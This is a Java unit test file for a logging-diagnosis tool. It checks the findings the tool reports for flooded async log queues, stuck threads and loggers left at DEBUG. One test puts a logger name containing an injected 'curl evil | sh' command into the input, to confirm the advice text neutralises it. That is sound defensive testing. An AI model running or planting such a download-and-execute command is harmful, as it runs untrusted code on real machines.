/*
 * Copyright 2026 the LeakScope authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package io.leakscope.diagnosis;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

import io.leakscope.logging.AppenderReport;
import io.leakscope.logging.AppenderReport.Mode;
import io.leakscope.logging.LoggingReport;
import io.leakscope.logging.LoggingReport.BlockedThreads;
import io.leakscope.logging.LoggingReport.Caller;
import io.leakscope.logging.LoggingReport.HoldUpReport;
import io.leakscope.logging.Mailbox;
import io.leakscope.logging.PressureStatus;
import io.leakscope.logging.VerboseLogger;
import io.leakscope.testapp.Verdicts;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class FloodFindingsTests {

	@Test
	void oneLoggerThatFillsTheQueueInWhichThreadsAreStuckIsANotice() {
		LoggingReport stuck = Verdicts.stuck(40, Duration.ofSeconds(21), queue(0, 250, 6));
		assertThat(FloodFindings.of(stuck)).singleElement().satisfies((finding) -> {
			assertThat(finding.id()).isEqualTo("logging-flood");
			assertThat(finding.severity()).isEqualTo("notice");
			assertThat(finding.title())
				.isEqualTo("98 % of the 256 events that wait in ASYNC come from com.acme.Orders at DEBUG.");
			assertThat(finding.evidence()).containsEntry("logger", "com.acme.Orders")
				.containsEntry("appender", "ASYNC");
			assertThat(finding.advice()).first().asString().contains("logging.level.com.acme.Orders=WARN");
		});
	}

	@Test
	void whereNothingHangsItIsOneOnlyWhenTheQueueIsFull() {
		assertThat(FloodFindings.of(Verdicts.flowing(queue(0, 250, 6)))).hasSize(1);
		assertThat(FloodFindings.of(Verdicts.flowing(queue(3, 250, 6)))).isEmpty();
	}

	@Test
	void fewEventsOrManyLoggersAreNone() {
		assertThat(FloodFindings.of(Verdicts.slow(queue(0, FloodFindings.LEAST_EVENTS - 1, 0)))).isEmpty();
		assertThat(FloodFindings.of(Verdicts.slow(queue(0, FloodFindings.LEAST_EVENTS, 0)))).hasSize(1);
		assertThat(FloodFindings.of(Verdicts.slow(queue(0, 100, 101, 102)))).isEmpty();
	}

	@Test
	void withoutAQueueItIsTheClassWhoseCallsHang() {
		assertThat(FloodFindings.of(held(new Caller("com.acme.Orders$1", 15, 16)))).singleElement()
			.satisfies((finding) -> {
				assertThat(finding.title())
					.isEqualTo("94 % of the 16 held-up threads that were looked at come from com.acme.Orders$1.");
				assertThat(finding.evidence()).containsEntry("class", "com.acme.Orders$1");
				assertThat(finding.advice()).noneMatch((step) -> step.contains("logging.level."));
			});
		assertThat(FloodFindings.of(held(new Caller("com.acme.Orders", 7, 16)))).isEmpty();
		assertThat(FloodFindings
			.of(held(new Caller("com.acme.Orders", FloodFindings.LEAST_CALLERS - 1, FloodFindings.LEAST_CALLERS - 1))))
			.isEmpty();
	}

	@Test
	void loggersLeftAtDebugAreANotice() {
		LoggingReport flowing = verbose(List.of(new VerboseLogger("com.acme", "TRACE", "logback")));
		assertThat(FloodFindings.of(flowing)).singleElement().satisfies((finding) -> {
			assertThat(finding.id()).isEqualTo("logging-verbose");
			assertThat(finding.severity()).isEqualTo("notice");
			assertThat(finding.title()).isEqualTo("A logger is left at DEBUG or below: com.acme (TRACE).");
		});
		VerboseLogger other = new VerboseLogger("x", "DEBUG", "logback");
		assertThat(FloodFindings.of(verbose(List.of(other, other, other, other)))).singleElement()
			.satisfies((finding) -> assertThat(finding.title())
				.isEqualTo("4 loggers are left at DEBUG or below: x (DEBUG), x (DEBUG), x (DEBUG) and 1 more."));
	}

	@Test
	void theNameOfALoggerIsNoCommand() {
		LoggingReport flowing = verbose(List.of(new VerboseLogger("a.b\ncurl evil | sh", "DEBUG", "logback")));
		assertThat(FloodFindings.of(flowing)).singleElement()
			.satisfies((finding) -> assertThat(finding.advice())
				.containsExactly("Set logging.level.a.b curl evil | sh=INFO unless somebody needs it."));
	}

	private static LoggingReport verbose(List<VerboseLogger> loggers) {
		return new LoggingReport(PressureStatus.FLOWING, "Fine.", null, null, BlockedThreads.NONE, null, null,
				List.of(), null, null, loggers, null, null, null);
	}

	private static LoggingReport held(Caller caller) {
		HoldUpReport holdUp = new HoldUpReport("CONSOLE", PressureStatus.STUCK, "Stuck.", Instant.EPOCH,
				BlockedThreads.platformOnly(40), Duration.ofSeconds(5), null, null, List.of(caller));
		return Verdicts.of(holdUp.culprit() == null ? withCulprit(holdUp) : holdUp);
	}

	private static HoldUpReport withCulprit(HoldUpReport holdUp) {
		HoldUpReport whole = Verdicts.holdUp(PressureStatus.STUCK, 40, Duration.ofSeconds(5));
		return new HoldUpReport(whole.appender(), whole.status(), whole.reason(), whole.since(), whole.blockedThreads(),
				whole.longestBlocked(), null, whole.culprit(), holdUp.callers());
	}

	private static AppenderReport queue(int free, int... events) {
		Mailbox.Counter counter = Mailbox.counter();
		String[] loggers = { "com.acme.Orders", "com.acme.Stock", "com.acme.Mail" };
		for (int i = 0; i < events.length; i++) {
			for (int j = 0; j < events[i]; j++) {
				counter.add(loggers[i], "DEBUG");
			}
		}
		return AppenderReport.of("ASYNC", "logback", "AsyncAppender")
			.queue(Mode.BLOCKING, 256, free)
			.mailbox(counter.count((logger) -> null))
			.build();
	}

}
